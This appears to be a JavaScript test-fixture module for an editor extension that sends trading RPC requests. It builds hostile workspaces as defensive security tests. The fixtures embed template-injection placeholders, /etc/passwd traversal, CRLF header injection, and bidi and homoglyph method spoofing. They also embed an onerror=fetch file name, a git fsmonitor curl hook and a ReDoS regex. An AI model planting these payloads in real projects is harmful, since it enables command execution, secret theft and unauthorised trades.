// @ts-check
/** Folders with request and environment files that mean something else than they seem to: many fit into one window. */

/** @typedef {import("./workspaces.mjs").Fixture} Fixture */
/** @typedef {import("./workspaces.mjs").Names} Names */
/** @typedef {import("./workspaces.mjs").Expected} Expected */
/** @typedef {Omit<Fixture, "id" | "threat" | "needs">} Made */
/** @typedef {Readonly<Record<string, (names: Names) => Made>>} Table under the threat and the id of each */

const X = "RPC_HOSTILE_CANARY";

/** Ways in which programs fill the environment, a secret or the result of a command into a text. */
const PLACEHOLDERS = [
  "${env:X}",
  "${env.X}",
  "${X}",
  "$X",
  "%X%",
  "{{X}}",
  "{{$X}}",
  "{{$env.X}}",
  "{{env.X}}",
  "{{process.env.X}}",
  "{{$processEnv X}}",
  "{{$dotenv X}}",
  "{{$shared X}}",
  "${workspaceFolder}/${env:X}",
  "${command:tradingRpc.order.cancelAll}",
  "${input:X}",
  "${config:tradingRpc.url}",
  "$(printenv X)",
  "`printenv X`",
  "<%= process.env.X %>",
  "#{ENV['X']}",
  "{{{X}}}",
  "[[X]]",
  "@{X}",
  "${{ env.X }}",
  "${{ secrets.X }}",
  "${X:-y}",
  "{%X%}",
  "{{constructor.constructor('return process')()}}",
  "{{__proto__.X}}",
  "{{$session.accessToken}}",
  "{{$session.refreshToken}}",
  "{{$connection.clientSecret}}",
  "{{$secret.X}}",
  "{{$var.X}}",
];

/** @param {string} syntax @returns {string} */
const named = (syntax) => syntax.replaceAll("X", X);

/** @param {string} text */
const quoted = (text) => JSON.stringify(text);

/** @param {string} method @param {string} [params] */
const request = (method, params = "{}") => `{ "method": ${quoted(method)}, "params": ${params} }\n`;

/** A read that no view makes, with a text of the fixture in it. @param {string} text */
const read = (text) =>
  request("public/get_last_trades_by_instrument", `{ "instrument_name": ${quoted(text)}, "count": 1 }`);

/**
 * A folder whose one request file is sent, which is refused before anything leaves, unless `expected` says otherwise.
 * @param {Made["files"][string]} text
 * @param {Expected} [expected]
 * @param {Made["files"]} [files] more of the folder
 * @returns {Made}
 */
const one = (text, expected = "refused", files = {}) => ({
  files: { "a.rpc.json": text, ...files },
  drive: { send: "a.rpc.json", expected },
});

/** @param {Record<string, string>} variables of every kind of connection */
const environment = (variables) => ({ "rpc.env.json": `${JSON.stringify({ "*": variables })}\n` });

/** @param {string} text */
const wide = (text) => `${" ".repeat(600)}${text}`;

/** @param {unknown} value */
const deep = (value) => `${"[".repeat(70)}${JSON.stringify(value)}${"]".repeat(70)}`;

/** @type {Table} */
const TRICKS = {
  "T8 method-twice": () => one('{ "method": "public/get_time", "method": "private/cancel_all", "params": {} }\n'),
  "T8 params-twice": () =>
    one('{ "method": "private/cancel", "params": { "order_id": "A" }, "params": { "order_id": "B" } }\n'),
  "T8 name-twice-escaped": () =>
    one('{ "method": "public/get_time", "meth\\u006fd": "private/cancel_all", "params": {} }\n'),
  "T8 far-to-the-right": () =>
    one(
      `{ "method": "public/get_time", "params": {} }${wide(', { "method": "private/cancel_all", "params": {} }')}\n`,
      { read: 'public/get_time","params":{}' },
    ),
  "T8 far-below": () =>
    one(`[\n{ "method": "public/get_time" }${"\n".repeat(10_000)}, { "method": "private/cancel_all" }\n]\n`, {
      asked: /Line 10002: private\/cancel_all/,
    }),
  "T8 bidi-method": () => one(request("private/\u202ellA_lecnac\u202c")),
  "T8 bidi-comment": () =>
    one('{ "method": "private/cancel_all" /* \u202e } \u2066"emit_teg/cilbup" :"dohtem" {\u2069 */, "params": {} }\n', {
      asked: /Send private\/cancel_all on TESTNET canary/,
    }),
  "T8 zero-width-method": () => one(request("private/cancel\u200b_all")),
  "T8 homoglyph-method": () => one(request("priv\u0430te/cancel_all")),
  "T8 homoglyph-read": () => one(request("public/get_t\u0456me")),
  "T8 full-width-method": () => one(request("\uff50rivate/cancel_all")),
  "T8 escaped-method": () =>
    one('{ "method": "priv\\u0061te\\/cancel_all", "params": {} }\n', {
      asked: /Send private\/cancel_all on TESTNET canary/,
    }),
  "T8 case-of-method": () => one(request("Private/Cancel_All")),
  "T8 blank-in-method": () => one(request(" private/cancel_all ")),
  "T8 null-in-method": () => one('{ "method": "public/get_time\\u0000private/cancel_all", "params": {} }\n'),
  "T8 line-in-method": () => one('{ "method": "public/get_time\\nprivate/cancel_all", "params": {} }\n'),
  "T8 comment-ends-line": () =>
    one(
      '// harmless \u0085 { "method": "public/get_time" } \u000b\n{ "method": "private/cancel_all", "params": {} }\n',
      { asked: /Send private\/cancel_all on TESTNET canary/ },
    ),
  "T8 deep": () => one(request("private/get_mmp_config", `{ "index_name": ${deep("any")} }`)),
  "T8 prototype": () =>
    one(
      request(
        "private/cancel",
        '{ "__proto__": { "order_id": "A" }, "constructor": { "prototype": { "order_id": "B" } } }',
      ),
    ),
  "T8 many-at-once": () =>
    one(
      `[\n${Array.from({ length: 200 }, (_, index) => request("private/cancel", `{ "order_id": "A-${index}" }`).trim()).join(",\n")}\n]\n`,
      { asked: /Send 200 requests/ },
    ),
  "T8 unknown-write": () =>
    one(request("private/withdraw_everything", '{ "to": "other" }'), {
      trading: /Allow\sTrading\son\sTESTNET\scanary/,
    }),
  "T8 raw-message": () =>
    one('{ "jsonrpc": "2.0", "id": 1, "method": "private/cancel_all", "params": {}, "result": {} }\n'),
  "T8 number-as-text": () =>
    one(request("private/edit", '{ "order_id": "A", "amount": "1e400", "price": 9007199254740993 }'), {
      trading: /Allow\sTrading\son\sTESTNET\scanary/,
    }),
  "T9 token": () => one(request("private/cancel_all", '{ "access_token": "1554372800983.1C2EL5uX.n0tAt0ken" }')),
  "T9 refresh-token": () =>
    one(request("public/exchange_token", '{ "refresh_token": "1554372800983.1C2EL5uX.n0tAt0ken", "subject_id": 7 }'), {
      asked: /Uses the refresh token in the file instead of the connection's refresh token/,
    }),
  "T9 client-secret": () =>
    one(
      request(
        "public/auth",
        '{ "grant_type": "client_credentials", "client_id": "x", "client_secret": "hUnter2hUnter2" }',
      ),
    ),
  "T9 token-deep": () =>
    one(
      request(
        "private/get_mmp_config",
        '{ "index_name": { "list": [ { "access_token": "1554372800983.1C2EL5uX.n0tAt0ken" } ] } }',
      ),
    ),
  "T9 token-as-label": () =>
    one(
      request(
        "private/buy",
        `{ "instrument_name": "BTC-PERPETUAL", "amount": 10, "label": "{{$session.refreshToken}}" }`,
      ),
    ),
  "T9 token-of-session": () =>
    one(request("public/exchange_token", '{ "refresh_token": "{{$session.refreshToken}}", "subject_id": 7 }'), {
      asked: /Switch to account 7 on TESTNET canary/,
    }),
  "T9 password-by-name": () =>
    one(
      request(
        "private/create_api_key",
        '{ "max_scope": "trade:read", "name": "{{$session.accessToken}}", "api_secret": "aB3dE6gH9jK2mN5p" }',
      ),
    ),
  "T10 schema-remote": ({ url }) => ({
    ...one(`{ "$schema": "${url}schema.json", "method": "public/get_time" }\n`, { read: "public/get_time" }),
    isFetchedByEditor: true,
  }),
  "T10 schema-command": () =>
    one('{ "$schema": "command:tradingRpc.order.cancelAll", "method": "public/get_time" }\n', {
      read: "public/get_time",
    }),
  "T10 reference": ({ url }) =>
    one(`{ "method": "public/get_time", "params": { "$ref": "${url}x.json", "$include": "../../../etc/passwd" } }\n`, {
      read: "../../../etc/passwd",
    }),
  "T4 address-as-method": ({ url }) => one(`{ "method": "${url}x", "params": {}, "$run": { "transport": "http" } }\n`),
  "T4 address-by-slashes": ({ host }) =>
    one(`{ "method": "//${host}/x", "params": {}, "$run": { "transport": "http-get-query" } }\n`),
  "T4 address-by-user": ({ host }) =>
    one(`{ "method": "@${host}/x", "params": {}, "$run": { "transport": "http" } }\n`),
  "T4 path-upwards": () =>
    one('{ "method": "public/../../../control/cancel", "params": {}, "$run": { "transport": "http" } }\n'),
  "T4 query-in-method": () =>
    one('{ "method": "private/cancel?order_id=A#", "params": {}, "$run": { "transport": "http-get-query" } }\n'),
  "T4 header-in-method": () =>
    one('{ "method": "public/get_time\\r\\nHost: evil", "params": {}, "$run": { "transport": "http" } }\n'),
  "T4 placeholder-in-method": () =>
    one(`{ "method": "private/{{X}}", "params": { "{{X}}": 1 } }\n`, "refused", environment({ X: "cancel_all" })),
  "T4 environment-injects": () =>
    one(
      request("public/get_last_trades_by_instrument", '{ "instrument_name": "{{X}}", "count": 1 }'),
      { read: 'A\\"}}, {\\"method' },
      environment({ X: 'A"}}, {"method":"private/cancel_all","params":{"a":"' }),
    ),
  "T1 environment-endpoint": ({ wsUrl, url }) =>
    one(read("X"), "refused", {
      "rpc.env.json": `{ "*": { "url": "${wsUrl}", "baseUrl": "${url}", "clientSecret": "x" }, "$url": "${wsUrl}", "$connection": "${wsUrl}" }\n`,
    }),
  "T4 environment-allow": () => one(read("X"), "refused", { "rpc.env.json": '{ "$allow": ["prod"] }\n' }),
  "T4 environment-allow-wider": () =>
    one(request("private/cancel_all"), "refused", {
      "rpc.env.json": '{ "$allow": ["*", "sim", "test", "production"], "$confirm": false, "$readOnly": false }\n',
    }),
  "T4 environment-prototype": () =>
    one(read("{{toString}} {{__proto__}}"), "refused", {
      "rpc.env.json": '{ "__proto__": { "toString": "x" }, "*": { "__proto__": "y" } }\n',
    }),
  "T4 environment-local": () =>
    one(
      read("{{X}}"),
      { read: "${env:" },
      { "rpc.env.json": '{ "*": { "X": "A" } }\n', "rpc.env.local.json": `{ "*": { "X": "\${env:${X}}" } }\n` },
    ),
  "T11 environment-large": () =>
    one(
      read("{{v1}}"),
      { read: '"instrument_name":"1"' },
      {
        "rpc.env.json": `{ "*": { ${Array.from({ length: 20_000 }, (_, index) => `"v${index}": "${index}"`).join(", ")} } }\n`,
      },
    ),
  "T11 environment-link": () => one(read("{{root}}"), "refused", { "rpc.env.json": { link: "/etc/passwd" } }),
  "T11 options-regex": () =>
    one('{ "method": "public/get_time", "$run": { "expect": { "result": { "matches": "^(a+)+$" } } } }\n', {
      read: "public/get_time",
    }),
  "T11 options-repeat": () =>
    one(
      '{ "method": "private/cancel_all", "$run": { "repeat": 1000000000, "everyMs": 0, "confirm": false, "timeoutMs": -1 } }\n',
    ),
  "T1 options-target": ({ wsUrl }) =>
    one(
      `{ "method": "private/cancel_all", "$run": { "connection": "${wsUrl}", "url": "${wsUrl}", "target": "${wsUrl}" }, "$connection": "${wsUrl}" }\n`,
    ),
  "T4 curl-in-file": ({ url }) => one(`curl -X POST "${url}private/cancel_all" -H "Authorization: Bearer x"\n`),
  "T11 file-of-17-megabytes": () => one(`[\n${`${request("private/cancel_all").trim()},\n`.repeat(17 * 20_000)}{}]\n`),
  "T11 not-utf-8": () =>
    one({ bytes: Buffer.from('{ "method": "private/cancel_all\xff\xfe", "params": {} }', "latin1") }),
  "T11 link-outside": () => one({ link: "/etc/passwd" }),
  "T17 name-is-a-link": () => ({
    files: { "[Send](command:tradingRpc.order.cancelAll).rpc.json": request("private/cancel_all") },
    drive: {
      send: "[Send](command:tradingRpc.order.cancelAll).rpc.json",
      expected: { asked: /Send private\/cancel_all on TESTNET canary/ },
    },
  }),
};

/**
 * Files that the editor finds hard to list or to read: beside them its search finds others no more. Each for a window
 * of its own.
 * @type {Table}
 */
export const ODD_FILES = {
  "T11 binary": () => ({
    files: { "a.rpc.json": { bytes: Uint8Array.from({ length: 4096 }, (_, index) => (index * 131) % 256) } },
  }),
  "T11 utf-16": () => ({
    files: { "a.rpc.json": { bytes: Buffer.from(`\ufeff${request("private/cancel_all")}`, "utf16le") } },
  }),
  "T11 link-to-itself": () => ({
    files: { "a.rpc.json": { link: "a.rpc.json" }, "b.rpc.json": request("private/cancel_all") },
  }),
  "T11 pipe": () => ({ files: { "a.rpc.json": { pipe: true }, "b.rpc.json": request("private/cancel_all") } }),
  "T11 folder-as-file": () => ({ files: { "a.rpc.json/rpc.env.json/a.rpc.json": request("private/cancel_all") } }),
  "T54 name-is-html": ({ host }) => ({
    files: { [`<img src=x onerror=fetch(${host.replace(":", "%3a")})>.rpc.json`]: request("private/cancel_all") },
  }),
  "T19 name-has-icons": () => ({ files: { "$(verified) $(zap) PRODUCTION.rpc.json": request("private/cancel_all") } }),
  "T20 name-is-reversed": () => ({ files: { "emit\u202enosj.cpr.daer.rpc.json": request("private/cancel_all") } }),
  "T21 name-has-lines": () => ({ files: { "a\nSent to TESTNET\r\nb.rpc.json": request("private/cancel_all") } }),
  "T54 document-with-links": ({ url }) => ({
    files: {
      "NOTES.md": `[run](command:tradingRpc.order.cancelAll?%5B%5D) <a href="command:tradingRpc.request.sendAll">x</a> ![](${url}beacon.png)\n`,
      "notes.ipynb": `{"cells":[{"cell_type":"markdown","metadata":{},"source":["<img src='${url}n.png'>"]}],"metadata":{},"nbformat":4,"nbformat_minor":5}\n`,
    },
  }),
  "T7 git-hooks": ({ url }) => ({
    files: {
      ".git/config": `[core]\n\trepositoryformatversion = 0\n\tfsmonitor = curl ${url}\n[remote "origin"]\n\turl = ${url}\n`,
      ".git/HEAD": "ref: refs/heads/main\n",
      "a.rpc.json": request("private/cancel_all"),
    },
  }),
};

/** What is written between two braces has to exist; everything else is a text like any other, and sent as it stands. */
const FILLED = PLACEHOLDERS.map((syntax, index) => {
  const expected = /\{\{[^{}]*\}\}/.test(syntax) ? "refused" : { read: JSON.stringify(named(syntax)) };
  const make = () => one(read(named(syntax)), /** @type {Expected} */ (expected));
  return /** @type {const} */ ([`T4 placeholder-${String(index + 1).padStart(2, "0")}`, make]);
});

/** @type {Table} */
export const REQUEST_FILES = { ...TRICKS, ...Object.fromEntries(FILLED) };
